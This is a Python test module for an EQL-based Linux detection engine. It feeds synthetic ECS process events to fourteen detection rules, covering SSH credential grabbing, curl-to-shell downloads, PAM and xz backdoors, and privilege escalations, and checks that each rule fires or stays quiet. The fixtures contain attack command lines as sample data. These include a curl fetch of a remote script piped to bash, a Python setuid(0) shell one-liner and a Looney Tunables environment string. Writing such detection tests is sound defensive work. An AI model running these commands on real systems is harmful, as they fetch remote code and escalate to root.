"""The corpus' process-only sequences whose steps need process ends, uid/gid
changes, setsid, environment, capabilities or entry leaders, on ECS input as
Elastic Defend writes it, through `scan --input ecs`'s path (JSON lines ->
documents -> engine -> alerts): for each a stream where it fires and near
misses (the matcher on Defend-shaped input). Those audit records can fire
have audit-record cases too (test_corpus_sequences_audit_more.py); the ones
that fire from exec records alone are in test_corpus_sequences_audit.py."""

from __future__ import annotations

import json
from typing import Any, Callable, Optional

import pytest

from audisp_eql.pipeline import PipelineOptions, build_pipeline
from audisp_eql.source.ecs_input import iter_documents
from harness.streams import stamp
from test_corpus_sequences_audit import ancestors, rule_named

LINUX = "rules/linux/"


class Stream:
    """ECS documents (dotted keys, as exporters write them), one JSON line each."""

    def __init__(self) -> None:
        self.lines: list[str] = []
        self.count = 0

    def add(self, ms: int, **fields: Any) -> str:
        self.count += 1
        ident = f"ev{self.count}"
        doc = {"@timestamp": stamp(ms), "event.id": ident, "event.category": ["process"],
               "host.os.type": "linux", "host.id": "h1", "host.name": "h1"}
        doc.update({k.replace("__", "."): v for k, v in fields.items()})
        self.lines.append(json.dumps(doc))
        return ident

    def exec(self, ms: int, **fields: Any) -> str:
        return self.add(ms, event__type=["start"], event__action="exec", **fields)

    def uid_change(self, ms: int, **fields: Any) -> str:
        return self.add(ms, event__type=["change"], event__action="uid_change", **fields)


def alerts(path: str, stream: Stream) -> list[dict]:
    found: list[dict] = []
    pipeline = build_pipeline(PipelineOptions(audit_input=False, rules=[rule_named(path)]),
                              on_alert=found.append)
    chunks = iter([("\n".join(stream.lines) + "\n").encode()])
    pipeline.documents(doc for _line, doc in iter_documents(chunks))
    pipeline.flush()
    return found


Case = Callable[[Optional[str]], tuple[Stream, list[list[str]]]]
CASES: dict[str, tuple[str, Case, tuple[str, ...]]] = {}


def case(path: str, *misses: str) -> Callable[[Case], Case]:
    def register(build: Case) -> Case:
        CASES[build.__name__] = (LINUX + path, build, misses)
        return build
    return register


@case("credential_access_ssh_password_grabbing_via_strace.toml", "reversed", "late")
def sshd_ends_then_strace(miss: Optional[str]) -> tuple[Stream, list[list[str]]]:
    s = Stream()
    if miss == "reversed":
        strace = s.exec(0, process__name="strace", process__pid=2)
        end = s.add(100, event__type=["end"], event__action="end", process__name="sshd")
        return s, [[end, strace]]
    end = s.add(0, event__type=["end"], event__action="end", process__name="sshd")
    strace = s.exec(3001 if miss else 2000, process__name="strace", process__args=["strace", "-p", "9"])
    return s, [[end, strace]]


@case("execution_payload_downloaded_by_curl_wget_and_piped_to_interpreter.toml", "late", "other_cwd")
def curl_piped_to_shell(miss: Optional[str]) -> tuple[Stream, list[list[str]]]:
    s = Stream()
    common = {"process__parent__entity_id": "P1", "process__parent__name": "bash"}
    curl = s.exec(0, process__name="curl", process__args=["curl", "http://203.0.113.7/x.sh"],
                  process__args_count=2, process__command_line="curl http://203.0.113.7/x.sh",
                  process__working_directory="/tmp", **common)
    end = s.add(2000 if miss == "late" else 800, event__type=["end"], event__action="end",
                process__name="bash", process__args=["bash"], process__args_count=1,
                process__working_directory="/root" if miss == "other_cwd" else "/tmp", **common)
    return s, [[curl, end]]


@case("persistence_pluggable_authentication_module_pam_exec_backdoor_exec.toml",
      "other_process", "three_args")
def pam_exec_backdoor(miss: Optional[str]) -> tuple[Stream, list[list[str]]]:
    s = Stream()
    setsid = s.add(0, event__type=["change"], event__action="session_id_change",
                   process__name="sshd", process__entity_id="E1")
    args = ["/bin/sh", "/tmp/x", "y"] if miss == "three_args" else ["/bin/sh", "/tmp/x"]
    shell = s.exec(500, process__entity_id="E2" if miss == "other_process" else "E1",
                   process__name="sh", process__executable="/bin/sh", process__args=args,
                   process__args_count=len(args), process__parent__name="sshd")
    return s, [[setsid, shell]]


@case("persistence_suspicious_ssh_execution_xzbackdoor.toml", "exit_zero", "excluded_command")
def xz_backdoor(miss: Optional[str]) -> tuple[Stream, list[list[str]]]:
    s = Stream()
    end = s.add(0, event__type=["end"], event__action="end", process__name="sshd",
                process__entity_id="S1", process__exit_code=0 if miss == "exit_zero" else 255,
                process__command_line="/usr/sbin/sshd -D -R",
                process__parent__command_line="sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups")
    payload = "rsync --server" if miss == "excluded_command" else "id > /tmp/pwned"
    shell = s.exec(20_000, process__name="sh", process__args=["sh", "-c", payload],
                   process__command_line=f"sh -c {payload}", process__parent__name="sshd",
                   process__parent__command_line="/usr/sbin/sshd -D -R",
                   process__parent__entity_id="S1")
    return s, [[end, shell]]


@case("privilege_escalation_enlightenment_window_manager.toml", "not_root")
def enlightenment(miss: Optional[str]) -> tuple[Stream, list[list[str]]]:
    s = Stream()
    sys_ = s.exec(0, process__name="enlightenment_sys", process__parent__entity_id="P",
                  process__args=["/usr/lib/x/enlightenment_sys", "/bin/mount/", "-o", "noexec"])
    change = s.uid_change(1000, process__parent__entity_id="P", user__id="1000" if miss else "0")
    return s, [[sys_, change]]


@case("privilege_escalation_gdb_sys_ptrace_elevation.toml", "other_entry_leader")
def gdb_ptrace(miss: Optional[str]) -> tuple[Stream, list[list[str]]]:
    s = Stream()
    gdb = s.exec(0, process__name="gdb", user__id="1000", process__entry_leader__entity_id="L1",
                 process__thread__capabilities__effective=["CAP_SYS_PTRACE"])
    root = s.exec(30_000, process__name="bash", user__id="0",
                  process__entry_leader__entity_id="L2" if miss else "L1")
    return s, [[gdb, root]]


@case("privilege_escalation_looney_tunables_cve_2023_4911.toml", "four", "other_binaries")
def looney_tunables(miss: Optional[str]) -> tuple[Stream, list[list[str]]]:
    s = Stream()
    env = ["GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A"]
    count = 4 if miss == "four" else 5
    runs = [s.exec(200 * i, process__parent__entity_id="P", process__env_vars=env,
                   process__executable=f"/usr/bin/su{i if miss == 'other_binaries' else ''}")
            for i in range(count)]
    return s, [runs]


@case("privilege_escalation_overlayfs_local_privesc.toml", "unrelated_process")
def unshare_then_uid_change(miss: Optional[str]) -> tuple[Stream, list[list[str]]]:
    s = Stream()
    unshare = s.exec(0, process__name="unshare", process__args=["unshare", "-rm", "sh"],
                     user__id="1000", process__parent__entity_id="P")
    change = s.uid_change(5000, user__id="0", process__parent__entity_id="Q" if miss else "P")
    return s, [[unshare, change]]


ROOTLESS_PARENT = {"process__parent__user__id": "1000", "process__parent__group__id": "1000"}


@case("privilege_escalation_potential_privesc_via_general_sequence_child.toml", "sudo")
def tmp_binary_becomes_root(miss: Optional[str]) -> tuple[Stream, list[list[str]]]:
    s = Stream()
    run = s.exec(0, process__entity_id="X", process__executable="/tmp/x", user__id="1000",
                 **ROOTLESS_PARENT)
    change = s.uid_change(10_000, process__entity_id="X", user__id="0",
                          process__executable="/usr/bin/sudo" if miss else "/tmp/x",
                          **ROOTLESS_PARENT)
    return s, [[run, change]]


@case("privilege_escalation_potential_privesc_via_general_sequence_parent.toml", "late")
def sibling_becomes_root(miss: Optional[str]) -> tuple[Stream, list[list[str]]]:
    s = Stream()
    run = s.exec(0, process__parent__entity_id="P", process__executable="/dev/shm/x",
                 user__id="1000", **ROOTLESS_PARENT)
    change = s.uid_change(15_001 if miss else 14_000, process__parent__entity_id="P",
                          user__id="0", process__executable="/dev/shm/y", **ROOTLESS_PARENT)
    return s, [[run, change]]


@case("privilege_escalation_potential_privesc_via_general_sequence_parent_child.toml", "grandchild")
def child_becomes_root(miss: Optional[str]) -> tuple[Stream, list[list[str]]]:
    s = Stream()
    run = s.exec(0, process__entity_id="X", process__executable="/var/tmp/x", user__id="1000",
                 **ROOTLESS_PARENT)
    change = s.uid_change(3000, process__parent__entity_id="Y" if miss else "X", user__id="0",
                          process__executable="/var/tmp/y", **ROOTLESS_PARENT)
    return s, [[run, change]]


@case("privilege_escalation_sudo_token_via_process_injection.toml", "other_session")
def sudo_token_injection(miss: Optional[str]) -> tuple[Stream, list[list[str]]]:
    s = Stream()
    gdb = s.exec(0, process__name="gdb", process__user__id="1000", process__group__id="1000",
                 process__session_leader__entity_id="S1")
    sudo = s.uid_change(9000, process__name="sudo", process__user__id="0", process__group__id="0",
                        process__session_leader__entity_id="S2" if miss else "S1")
    return s, [[gdb, sudo]]


@case("privilege_escalation_suspicious_cap_setuid_python_execution.toml", "late")
def python_setuid(miss: Optional[str]) -> tuple[Stream, list[list[str]]]:
    s = Stream()
    python = s.exec(0, process__entity_id="X", user__id="1000", process__name="python3",
                    process__args=["python3", "-c", "import os;os.setuid(0);os.system('/bin/sh')"])
    change = s.uid_change(1001 if miss else 300, process__entity_id="X", user__id="0")
    return s, [[python, change]]


@case("privilege_escalation_suspicious_uid_guid_elevation.toml", "excluded_parent")
def capability_uid_elevation(miss: Optional[str]) -> tuple[Stream, list[list[str]]]:
    s = Stream()
    caps = {"process__thread__capabilities__permitted": ["CAP_SETUID", "CAP_SETGID"]}
    run = s.exec(0, process__entity_id="X", process__name="x", process__executable="/tmp/x",
                 user__id="1000", process__parent__executable="/usr/bin/dbus-daemon" if miss
                 else "/usr/bin/bash", **caps)
    change = s.uid_change(400, process__entity_id="X", user__id="0", **caps)
    return s, [[run, change]]


def test_fourteen_rules_need_events_auditd_does_not_give_us() -> None:
    assert len(CASES) == 14


@pytest.mark.parametrize("name", sorted(CASES))
def test_fires_and_names_its_events(name: str) -> None:
    path, build, _misses = CASES[name]
    stream, expected = build(None)
    found = alerts(path, stream)
    assert [ancestors(a) for a in found] == expected


@pytest.mark.parametrize("name,miss", [(n, m) for n in sorted(CASES) for m in CASES[n][2]])
def test_near_miss_does_not_fire(name: str, miss: str) -> None:
    path, build, _misses = CASES[name]
    stream, _expected = build(miss)
    assert alerts(path, stream) == []


# `check` judges these ok, yet audit records do not fire them in truth (why):
# they keep ECS cases only. A rule leaves this table when it gets audit cases.
NOT_FROM_AUDIT_RECORDS = {
    LINUX + "persistence_suspicious_ssh_execution_xzbackdoor.toml":
        "step 2 is a shell whose parent is the sshd whose end (exit_group) is step 1: a "
        "child's exec is logged with its parent's pid only while that parent lives (then "
        "ppid is 1 or a subreaper), and step 1 wants the listener's setproctitle title as "
        "process.parent.command_line, which the table (exec arguments) never holds",
}


def test_the_two_files_cover_every_process_only_corpus_sequence() -> None:
    """28 sequences have only `process` steps, each with cases on ECS input
    here or on audit records (test_corpus_sequences_audit*.py). Every one
    `check` calls ok has audit-record cases (or is in NOT_FROM_AUDIT_RECORDS,
    with why); every other one is cannot_fire, naming its step and what that
    step's documents lack, and has ECS cases."""
    import re

    from audisp_eql.eql import parse_query
    from audisp_eql.rules import CANNOT_FIRE, OK, load_rules
    from conftest import CORPUS
    from test_corpus_sequences_audit import CASES as AUDIT_CASES
    from test_corpus_sequences_audit_more import CASES as MORE_CASES

    ruleset = load_rules([CORPUS])
    process_only = {}
    for rule in ruleset.rules:
        query = parse_query(rule.query)
        if query.kind == "sequence" and all(s.event.category == "process" for s in query.steps):
            process_only[str(rule.path.relative_to(CORPUS))] = (rule, len(query.steps))
    assert len(process_only) == 28
    audit = {case[0] for case in AUDIT_CASES.values()} | {case[0] for case in MORE_CASES.values()}
    ecs = {path for path, _build, _misses in CASES.values()}
    assert len(audit) == len(AUDIT_CASES) + len(MORE_CASES)      # one module per rule
    assert audit | ecs == set(process_only)
    assert set(NOT_FROM_AUDIT_RECORDS) <= ecs - audit
    status = {r.path: r for r in ruleset.reports}
    for path, (rule, steps) in process_only.items():
        report = status[rule.path]
        if report.status == OK:
            assert path in audit or path in NOT_FROM_AUDIT_RECORDS, \
                (path, "check says ok: it needs cases on audit records")
            continue
        assert path not in audit and path in ecs, path
        assert report.status == CANNOT_FIRE, (path, report.status, report.reason)
        step = re.search(r"sequence step (\d+)", report.reason)
        assert step is not None and 1 <= int(step.group(1)) <= steps, (path, report.reason)
        assert re.search(r"never have process\.|of kind \w+", report.reason), (path, report.reason)
